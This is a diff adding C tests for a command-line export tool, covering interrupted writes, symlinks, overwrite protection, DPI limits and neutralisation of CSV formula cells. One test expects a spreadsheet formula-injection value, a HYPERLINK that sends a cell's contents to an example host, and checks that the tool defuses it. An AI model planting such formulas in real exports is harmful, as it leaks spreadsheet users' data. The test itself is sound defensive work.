@@ -5,8 +5,12 @@
 
 #include "config.h"
 
+#include <glib/gstdio.h>
+#include <signal.h>
 #include <string.h>
+#include <unistd.h>
 
+#include "succession-test-files.h"
 #include "succession-test-utils.h"
 
 static char *dir;
@@ -111,6 +115,254 @@ test_usage (void)
   g_assert_nonnull (strstr (err, "--tiles"));
 }
 
+static char *
+make_folder (const char *name)
+{
+  char *folder = g_build_filename (dir, name, NULL);
+
+  g_assert_cmpint (g_mkdir (folder, 0755), ==, 0);
+  return folder;
+}
+
+/* A user's Ctrl+C or `kill` reaches the export with the default actions, whatever the test
+ * runner ignores. Runs in the child between fork and exec: signal() only. */
+static void
+default_signals (gpointer user_data)
+{
+  signal (SIGINT, SIG_DFL);
+  signal (SIGTERM, SIG_DFL);
+  signal (SIGHUP, SIG_DFL);
+}
+
+/* Starts an export that stops once it has written @stall_after bytes, waits until it says so,
+ * and kills it with @signum. */
+static void
+kill_during_export (const char * const *args,
+                    const char         *stall_after,
+                    int                 signum)
+{
+  g_autoptr(GSubprocessLauncher) launcher = g_subprocess_launcher_new (G_SUBPROCESS_FLAGS_STDOUT_SILENCE |
+                                                                        G_SUBPROCESS_FLAGS_STDERR_PIPE);
+  g_autoptr(GPtrArray) argv = g_ptr_array_new ();
+  g_autoptr(GSubprocess) proc = NULL;
+  g_autoptr(GDataInputStream) err = NULL;
+  g_autoptr(GError) error = NULL;
+  g_autofree char *line = NULL;
+
+  g_ptr_array_add (argv, (gpointer) g_getenv ("SUCCESSION_BIN"));
+  for (guint i = 0; args[i] != NULL; i++)
+    g_ptr_array_add (argv, (gpointer) args[i]);
+  g_ptr_array_add (argv, NULL);
+
+  g_subprocess_launcher_unsetenv (launcher, "DISPLAY");
+  g_subprocess_launcher_unsetenv (launcher, "WAYLAND_DISPLAY");
+  g_subprocess_launcher_unsetenv (launcher, "G_DEBUG");
+  g_subprocess_launcher_setenv (launcher, "SUCCESSION_TEST_EXPORT_STALL_AFTER", stall_after, TRUE);
+  g_subprocess_launcher_set_child_setup (launcher, default_signals, NULL, NULL);
+  proc = g_subprocess_launcher_spawnv (launcher, (const char * const *) argv->pdata, &error);
+  g_assert_no_error (error);
+
+  /* "stalled TEMPORARY-FILE": the export is half written. */
+  err = g_data_input_stream_new (g_subprocess_get_stderr_pipe (proc));
+  while ((line = g_data_input_stream_read_line_utf8 (err, NULL, NULL, &error)) != NULL &&
+         !g_str_has_prefix (line, "stalled "))
+    g_clear_pointer (&line, g_free);
+  g_assert_no_error (error);
+  if (line == NULL)
+    g_error ("the export ended before it was half written (%s)", args[0]);
+
+  g_subprocess_send_signal (proc, signum);
+  g_subprocess_wait (proc, NULL, &error);
+  g_assert_no_error (error);
+  /* It dies of the signal, as a program killed that way does. */
+  g_assert_true (g_subprocess_get_if_signaled (proc));
+  g_assert_cmpint (g_subprocess_get_term_sig (proc), ==, signum);
+}
+
+/* Killed half way by SIGINT, SIGTERM or SIGHUP, an export leaves the old file as it was, or
+ * no file: no truncated file under the name asked for, no temporary file beside it. */
+static void
+test_killed (void)
+{
+  static const int signals[] = { SIGTERM, SIGINT, SIGHUP };
+
+  for (guint i = 0; i < G_N_ELEMENTS (signals); i++)
+    {
+      g_autofree char *name = g_strdup_printf ("killed-%d", signals[i]);
+      g_autofree char *folder = make_folder (name);
+      g_autofree char *fresh = g_strdup_printf ("--output=%s/fresh.json", folder);
+      g_autofree char *old_pdf = g_build_filename (folder, "chart.pdf", NULL);
+      g_autofree char *pdf = g_strdup_printf ("--output=%s", old_pdf);
+      g_autofree char *listing = NULL;
+      g_autofree char *contents = NULL;
+
+      kill_during_export ((const char *[]) { "--export-dataset", fresh, NULL }, "100000", signals[i]);
+      listing = succession_test_list_dir (folder);
+      g_assert_cmpstr (listing, ==, "");
+      g_clear_pointer (&listing, g_free);
+
+      g_assert_true (g_file_set_contents (old_pdf, "the old chart", -1, NULL));
+      kill_during_export ((const char *[]) { "--export-chart=npcsc-chairperson,cppcc-chairperson", pdf, NULL },
+                          "20000", signals[i]);
+      listing = succession_test_list_dir (folder);
+      g_assert_cmpstr (listing, ==, "chart.pdf");
+      contents = succession_test_read_file (old_pdf);
+      g_assert_cmpstr (contents, ==, "the old chart");
+    }
+}
+
+/* SIGKILL cannot be caught: the temporary file stays, under a name that says what it is, and
+ * the file asked for is untouched. */
+static void
+test_killed_hard (void)
+{
+  g_autofree char *folder = make_folder ("killed-hard");
+  g_autofree char *target = g_build_filename (folder, "data.json", NULL);
+  g_autofree char *output = g_strdup_printf ("--output=%s", target);
+  g_autofree char *listing = NULL;
+  g_autofree char *contents = NULL;
+  g_autoptr(GRegex) expected = g_regex_new ("^\\.data\\.json\\.[A-Za-z0-9]{6}\\.tmp data\\.json$", 0, 0, NULL);
+
+  g_assert_true (g_file_set_contents (target, "old", -1, NULL));
+  kill_during_export ((const char *[]) { "--export-dataset", output, NULL }, "100000", SIGKILL);
+
+  listing = succession_test_list_dir (folder);
+  g_assert_true (g_regex_match (expected, listing, 0, NULL));
+  contents = succession_test_read_file (target);
+  g_assert_cmpstr (contents, ==, "old");
+}
+
+/* An export to a symbolic link replaces the file it points to; the link stays a link. */
+static void
+test_link (void)
+{
+  g_autofree char *folder = make_folder ("link");
+  g_autofree char *real = g_build_filename (folder, "real.csv", NULL);
+  g_autofree char *link = g_build_filename (folder, "link.csv", NULL);
+  g_autofree char *output = g_strdup_printf ("--output=%s", link);
+  g_autofree char *contents = NULL;
+  g_autofree char *listing = NULL;
+  g_autofree char *err = NULL;
+
+  g_assert_true (g_file_set_contents (real, "old", -1, NULL));
+  g_assert_cmpint (symlink ("real.csv", link), ==, 0);
+
+  g_assert_cmpint (run ((const char *[]) { "--export-table=npcsc-chairperson", output, NULL }, &err), ==, 0);
+  g_assert_true (g_file_test (link, G_FILE_TEST_IS_SYMLINK));
+  contents = succession_test_read_file (real);
+  g_assert_true (g_str_has_prefix (contents, "number,name,"));
+  listing = succession_test_list_dir (folder);
+  g_assert_cmpstr (listing, ==, "link.csv real.csv");
+}
+
+/* The dataset being read is never the export's output, however it is named: refused with 1 and
+ * a message, and the file is as it was. */
+static void
+test_dataset_not_overwritten (void)
+{
+  g_autofree char *folder = make_folder ("own-dataset");
+  g_autofree char *source = g_test_build_filename (G_TEST_DIST, "fixtures", "good", "small.json", NULL);
+  g_autofree char *mine = g_build_filename (folder, "mine.json", NULL);
+  g_autofree char *hard = g_build_filename (folder, "hard.json", NULL);
+  g_autofree char *soft = g_build_filename (folder, "soft.json", NULL);
+  g_autofree char *dotted = g_build_filename (folder, ".", "mine.json", NULL);
+  g_autofree char *dataset = g_strdup_printf ("--dataset=%s", mine);
+  g_autofree char *original = succession_test_read_file (source);
+  const char *outputs[] = { mine, hard, soft, dotted };
+
+  g_assert_true (g_file_set_contents (mine, original, -1, NULL));
+  g_assert_cmpint (link (mine, hard), ==, 0);
+  g_assert_cmpint (symlink ("mine.json", soft), ==, 0);
+
+  for (guint i = 0; i < G_N_ELEMENTS (outputs); i++)
+    {
+      g_autofree char *output = g_strdup_printf ("--output=%s", outputs[i]);
+      const char * const *commands[] = {
+        (const char *[]) { dataset, "--export-dataset", output, NULL },
+        (const char *[]) { dataset, "--export-table=chair", output, NULL },
+        (const char *[]) { dataset, "--export-chart=chair", "--format=pdf", output, NULL },
+      };
+
+      for (guint c = 0; c < G_N_ELEMENTS (commands); c++)
+        {
+          g_autofree char *err = NULL;
+          g_autofree char *contents = NULL;
+
+          g_assert_cmpint (run (commands[c], &err), ==, 1);
+          g_assert_nonnull (strstr (err, "dataset"));
+          contents = succession_test_read_file (mine);
+          g_assert_cmpstr (contents, ==, original);
+        }
+    }
+
+  {
+    g_autofree char *listing = succession_test_list_dir (folder);
+    g_assert_cmpstr (listing, ==, "hard.json mine.json soft.json");
+  }
+}
+
+/* Cells a spreadsheet would run as formulas are neutralised; --raw-csv keeps them as they are. */
+static void
+test_csv_formulas (void)
+{
+  g_autofree char *fixture = g_test_build_filename (G_TEST_DIST, "fixtures", "good", "formula-names.json", NULL);
+  g_autofree char *dataset = g_strdup_printf ("--dataset=%s", fixture);
+  g_autofree char *safe_path = g_build_filename (dir, "formulas.csv", NULL);
+  g_autofree char *raw_path = g_build_filename (dir, "formulas-raw.csv", NULL);
+  g_autofree char *safe_output = g_strdup_printf ("--output=%s", safe_path);
+  g_autofree char *raw_output = g_strdup_printf ("--output=%s", raw_path);
+  g_autofree char *safe = NULL;
+  g_autofree char *raw = NULL;
+  g_autofree char *err = NULL;
+
+  g_assert_cmpint (run ((const char *[]) { dataset, "--export-table=office", safe_output, NULL }, &err), ==, 0);
+  g_clear_pointer (&err, g_free);
+  safe = succession_test_read_file (safe_path);
+
+  /* Every line after the header: number, then the name; a formula never starts a cell. */
+  g_assert_nonnull (strstr (safe, "\r\n1,\"'=HYPERLINK(\"\"https://example.org/leak?\"\"&A1,\"\"click\"\")\",p1,"));
+  g_assert_nonnull (strstr (safe, "\r\n2,'+86 10 1234 5678,p2,"));
+  g_assert_nonnull (strstr (safe, "\r\n3,'-2+3,p3,"));
+  g_assert_nonnull (strstr (safe, "\r\n4,'@SUM(1+1),p4,"));
+  g_assert_nonnull (strstr (safe, "\r\n5,'\t=1+1,p5,"));
+  g_assert_nonnull (strstr (safe, "\r\n6,Plain Name,p6,"));
+  g_assert_null (strstr (safe, ",="));
+  g_assert_null (strstr (safe, ",+"));
+  g_assert_null (strstr (safe, ",@"));
+
+  g_assert_cmpint (run ((const char *[]) { dataset, "--export-table=office", raw_output, "--raw-csv", NULL }, &err), ==, 0);
+  raw = succession_test_read_file (raw_path);
+  g_assert_nonnull (strstr (raw, "\r\n1,\"=HYPERLINK("));
+  g_assert_nonnull (strstr (raw, "\r\n2,+86 10 1234 5678,p2,"));
+  g_assert_nonnull (strstr (raw, "\r\n5,\"\t=1+1\",p5,"));
+}
+
+/* Every numeric option refuses what makes no sense, with 2 and a message, and writes nothing. */
+static void
+test_option_ranges (void)
+{
+  static const char * const bad_dpi[] = { "--dpi=0", "--dpi=-150", "--dpi=9", "--dpi=1201", "--dpi=1e9",
+                                          "--dpi=nan", "--dpi=inf", "--dpi=abc", "--dpi=150dpi", "--dpi=" };
+  g_autofree char *png_path = g_build_filename (dir, "range.png", NULL);
+  g_autofree char *png = g_strdup_printf ("--output=%s", png_path);
+
+  for (guint i = 0; i < G_N_ELEMENTS (bad_dpi); i++)
+    {
+      g_autofree char *err = NULL;
+
+      g_assert_cmpint (run ((const char *[]) { "--export-chart=npcsc-chairperson", png, bad_dpi[i], NULL }, &err), ==, 2);
+      g_assert_nonnull (strstr (err, "--dpi"));
+      g_assert_false (g_file_test (png_path, G_FILE_TEST_EXISTS));
+    }
+
+  {
+    g_autofree char *err = NULL;
+
+    g_assert_cmpint (run ((const char *[]) { "--export-chart=npcsc-chairperson", png, "--dpi=10", NULL }, &err), ==, 0);
+    g_assert_true (g_file_test (png_path, G_FILE_TEST_IS_REGULAR));
+  }
+}
+
 int
 main (int   argc,
       char *argv[])
@@ -123,6 +375,12 @@ main (int   argc,
   g_test_add_func ("/cli-export/success", test_success);
   g_test_add_func ("/cli-export/bad-input", test_bad_input);
   g_test_add_func ("/cli-export/usage", test_usage);
+  g_test_add_func ("/cli-export/killed", test_killed);
+  g_test_add_func ("/cli-export/killed-hard", test_killed_hard);
+  g_test_add_func ("/cli-export/link", test_link);
+  g_test_add_func ("/cli-export/dataset-not-overwritten", test_dataset_not_overwritten);
+  g_test_add_func ("/cli-export/csv-formulas", test_csv_formulas);
+  g_test_add_func ("/cli-export/option-ranges", test_option_ranges);
 
   status = g_test_run ();
   g_free (dir);
